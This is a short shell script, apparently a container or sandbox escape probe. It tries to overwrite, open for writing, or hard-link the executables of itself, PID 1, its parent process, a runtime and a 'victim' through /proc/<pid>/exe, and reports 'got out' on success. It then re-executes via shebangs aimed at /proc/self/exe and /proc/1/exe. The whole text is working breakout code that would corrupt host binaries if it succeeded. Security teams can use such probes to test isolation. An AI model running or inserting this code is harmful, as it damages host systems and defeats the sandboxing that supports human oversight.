# Overwrites the programs that run: its own, and that of the first process, which comes from outside.
for process in self 1 "$PPID" "$RUNTIME" "$VICTIM"; do
    (echo "$MARK" > "/proc/$process/exe") 2>&1 && echo "got out: wrote the program of $process"
    (exec 9<> "/proc/$process/exe") 2>&1 && echo "got out: opened the program of $process"
    ln -f "/proc/$process/exe" linked 2>&1 && echo "got out: linked the program of $process"
done
printf '#!/proc/self/exe\n' > again && chmod +x again && timeout 2 ./again < /dev/null 2>&1
printf '#!/proc/1/exe\n' > again && timeout 2 ./again < /dev/null 2>&1
echo tried
